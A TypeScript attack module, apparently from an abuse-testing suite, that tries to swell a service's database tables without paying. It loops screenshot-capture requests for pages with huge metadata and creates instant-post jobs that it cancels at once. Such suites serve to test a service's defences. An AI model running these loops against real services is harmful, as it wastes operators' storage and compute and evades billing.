// Attack: database rows without paying, by pages with huge metadata and by jobs that are cancelled before they begin.

import { type AttackContext, nameOf, repeat } from './attack-context.ts';

export async function swellTables(context: AttackContext): Promise<void> {
  await Promise.all([sendHugePages(context), cancelAtOnce(context)]);
}

async function sendHugePages(context: AttackContext): Promise<void> {
  await repeat(context, { everyMs: 3_000 }, async (number) => {
    const options = { wait_for_selector: '#nope', timeout_ms: 2_000 };
    const body = { url: `${context.ownSite}/much?n=${number}`, options };
    context.count(`huge page ${nameOf(await context.api('POST /capture/screenshot', body))}`);
  });
}

async function cancelAtOnce(context: AttackContext): Promise<void> {
  await repeat(context, { everyMs: 200 }, async (number) => {
    const body = { mode: 'from_idea', idea: { prompt: `Bread number ${number}. ${'Rye and salt. '.repeat(250)}` } };
    const response = await context.api('POST /instant-post', body);
    context.count(`cancelled at once ${nameOf(response)}`);
    const id = response.body['job_id'];
    if (typeof id === 'string') await context.api(`POST /jobs/${id}/cancel`, {});
  });
}
